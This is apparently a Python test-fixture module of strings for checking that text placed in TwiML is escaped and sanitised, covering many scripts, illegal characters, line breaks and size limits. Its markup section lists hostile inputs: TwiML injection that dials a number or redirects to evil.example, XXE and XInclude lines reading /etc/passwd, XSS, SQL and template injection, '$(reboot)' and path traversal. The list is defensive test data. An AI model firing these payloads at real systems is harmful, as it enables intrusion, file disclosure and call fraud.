"""Words that end up in TwiML: whatever they are, the document parses and says them, less what no XML may hold."""

# ruff: noqa: RUF001 - odd characters are the subject

from collections.abc import Iterator
from typing import Any

Entry = dict[str, Any]
ILLEGAL = [*range(0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0xFFFE, 0xFFFF]


def entry(name: str, text: Any, said: Any = None) -> Entry:
    """One entry: `said` where it is not the text itself."""
    return {"name": name, "text": text} | ({} if said is None else {"said": said})


def entries() -> Iterator[Entry]:
    """Every entry."""
    yield from plain()
    yield from markup()
    yield from illegal()
    yield from legal()
    yield from line_breaks()
    yield from sizes()


def plain() -> Iterator[Entry]:
    """What people say."""
    for text in (
        "We are sorry, we cannot take your call right now.",
        "One moment, please.",
        "It's 5 o'clock – \u201clate\u201d…",
        "Wir sind gleich für Sie da: Straße, Äpfel, Öl.",
        "Un momento, por favor. ¿Sí? ¡Claro!",
        "Bir dakika lütfen, İstanbul ığüşöç.",
        "Jedną chwilę, proszę: zażółć gęślą jaźń.",
        "Одну минуту, пожалуйста.",
        "Μια στιγμή παρακαλώ.",
        "少々お待ちください。",
        "请稍等。",
        "잠시만 기다려 주세요.",
        "एक क्षण कृपया।",
        "لحظة من فضلك",
        "רגע בבקשה",
        "สักครู่",
        "ერთი წუთი",
        "ᏌᏊ",
        "𐌰𐌱𐌲 𝒜𝓃𝒹",
        "🎉👩\u200d👩\u200d👧🏽🇩🇪",
        "e\u0301\u0302\u0303",
        "\u202eabc\u202c \u2066x\u2069",
        "zero\u200bwidth\u200c\u200d\u2060\ufeff",
        "soft\u00adhyphen",
        "no\u00a0break\u202fspace\u3000",
        "\u2028line\u2029paragraph",
        "+1 (555) 010-0001 ext. 2",
        "€1,234.56 at 19 %",
        "100% sure",
        "1 < 2 > 0 & 3",
        "C:\\Users\\a",
        "a=b;c",
        "null",
        "0",
    ):
        yield entry(f"words {text[:24]!r}", text)


def markup() -> Iterator[Entry]:
    """Words that want to be markup."""
    for text in (
        "<Dial>+19005550000</Dial>",
        "</Say><Dial>+19005550000</Dial><Say>",
        "</Say></Response><Response><Reject/>",
        "<Redirect>http://evil.example/</Redirect>",
        "<Play>http://evil.example/a.mp3</Play>",
        "<Hangup/>",
        "<",
        ">",
        "&",
        "<<<<",
        "&&&&",
        "&amp;",
        "&lt;Dial&gt;",
        "&#60;Dial&#62;",
        "&#x3c;",
        "&nbsp;",
        "&unknown;",
        "&#0;",
        "&#xD800;",
        "&;",
        "&amp",
        "a & b && c",
        "<![CDATA[ x ]]>",
        "]]>",
        "]]]]><![CDATA[>",
        "<!-- a -->",
        "-->",
        "<!--",
        "--",
        "<?xml version='1.0'?>",
        "<?php echo 1 ?>",
        "?>",
        "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
        "<!ENTITY % a SYSTEM 'http://evil.example/'> %a;",
        "<xi:include href='file:///etc/passwd'/>",
        "<a:b xmlns:a='c'/>",
        "\"'\"'",
        "' onclick='x",
        '" action="http://evil.example/',
        "='x' voice=\"man\"",
        "<Say voice='x'>",
        "<speak><break time='9s'/></speak>",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "{{7*7}} ${7*7} <%= 7*7 %>",
        "%s %n {0} {}",
        "'; DROP TABLE calls; --",
        "$(reboot) `reboot` ; reboot",
        "../../etc/passwd",
        "\\u003cDial\\u003e",
        "\\x3cDial\\x3e",
        "%3CDial%3E",
        "+ADw-Dial+AD4-",
        "\uff1cDial\uff1e",
        "\u2039Dial\u203a",
        "<Dial",
        "Dial>",
        "</",
        "/>",
        "<a b=c d='e' f=\"g\"/>",
    ):
        yield entry(f"markup {text[:32]!r}", text)


def illegal() -> Iterator[Entry]:
    """Characters that no document of XML 1.0 may hold, and surrogates, which are no characters."""
    for code in ILLEGAL:
        yield entry(f"character U+{code:04X}", f"a{chr(code)}b", "ab")
    for code in (0xD800, 0xD83D, 0xDBFF, 0xDC00, 0xDE00, 0xDFFF):
        yield entry(f"surrogate U+{code:04X}", f"a{chr(code)}b", "ab")
    for name, text, said in (
        ("halves of pairs the wrong way round", "a\ude00\ud83db", "ab"),
        ("an illegal character in markup", "<\x00Dial\x0b>", "<Dial>"),
        ("an illegal character in an entity", "&a\x00mp;", "&amp;"),
        ("an illegal character that ends CDATA", "]\x00]\x0c>", "]]>"),
        ("an escape sequence of a terminal", "\x1b[31mred\x1b[0m", "[31mred[0m"),
        ("a bell and a backspace", "a\x07b\x08c", "abc"),
        ("an illegal character between letters and accents", "e\x00\u0301", "e\u0301"),
        ("illegal characters around an emoji", "\x0b🎉\x0c", "🎉"),
        ("Latin-1 controls, which are legal", "a\x80b\x85c\x9fd", "a\x80b\x85c\x9fd"),
    ):
        yield entry(name, text, said)
    yield entry("five thousand NULs and a word", [{"repeat": "\x00", "times": 5_000}, "word"], "word")


def legal() -> Iterator[Entry]:
    """Characters at the edges of what a document may hold."""
    for code in (
        0x09,
        0x20,
        0x7E,
        0x7F,
        0x80,
        0x84,
        0x85,
        0x86,
        0x9F,
        0xA0,
        0xAD,
        0x034F,
        0x061C,
        0x115F,
        0x180E,
        0x200B,
        0x200E,
        0x2028,
        0x2029,
        0x2060,
        0x206F,
        0x3164,
        0xD7FF,
        0xE000,
        0xF8FF,
        0xFDD0,
        0xFDEF,
        0xFE0F,
        0xFEFF,
        0xFFF9,
        0xFFFC,
        0xFFFD,
        0x10000,
        0x1D11E,
        0x1F600,
        0x1FFFE,
        0x1FFFF,
        0x2A6D6,
        0xE0001,
        0xE007F,
        0xF0000,
        0xFFFFD,
        0x10FFFD,
        0x10FFFF,
    ):
        yield entry(f"legal character U+{code:04X}", f"a{chr(code)}b")


def line_breaks() -> Iterator[Entry]:
    """Every reader of XML makes one line feed of each kind of line break; white space stays."""
    for name, text, said in (
        ("a line feed", "a\nb", None),
        ("a carriage return", "a\rb", "a\nb"),
        ("CRLF", "a\r\nb", "a\nb"),
        ("CR CR LF", "a\r\r\nb", "a\n\nb"),
        ("LF CR", "a\n\rb", "a\n\nb"),
        ("a line feed at both ends", "\na\n", None),
        ("a header", "a\r\nX-Admin: 1\r\n\r\nb", "a\nX-Admin: 1\n\nb"),
        ("tabs", "\ta\tb\t", None),
        ("spaces at both ends", "  a  ", None),
        ("many spaces", "a     b", None),
        ("nothing", "", None),
    ):
        yield entry(f"white space: {name}", text, said)


def sizes() -> Iterator[Entry]:
    """At most 3,000 bytes are said, and at most 4,500 characters as a URL encodes them."""
    for name, piece, times in (
        ("words", "words ", 400),
        ("3,000 letters", "a", 3_000),
        ("1,500 ampersands", "&", 1_500),
        ("1,499 less-than signs", "<", 1_499),
        ("750 letters of Greek", "λ", 750),
        ("375 emoji", "🎉", 375),
        ("ends of CDATA", "]]>", 500),
        ("quotes", "\"'", 750),
    ):
        yield entry(f"size: {name}", {"repeat": piece, "times": times})
    for name, piece, times in (
        ("letters", "a", 3_000),
        ("ampersands", "&", 1_500),
        ("emoji", "🎉", 375),
        ("Han", "请", 500),
    ):
        yield entry(f"size: too many {name}", {"repeat": piece, "times": 3_001}, {"repeat": piece, "times": times})
    yield entry("size: one ampersand too many", {"repeat": "&", "times": 1_501}, {"repeat": "&", "times": 1_500})
    yield entry("size: a megabyte", {"repeat": "a", "times": 1_000_000}, {"repeat": "a", "times": 3_000})
    yield entry(
        "size: 3,000 letters behind 3,000 NULs",
        [{"repeat": "\x00", "times": 3_000}, {"repeat": "a", "times": 3_000}],
        {"repeat": "a", "times": 3_000},
    )
    yield entry(
        "size: an emoji that would be cut in half",
        [{"repeat": "a", "times": 2_999}, "🎉"],
        {"repeat": "a", "times": 2_999},
    )
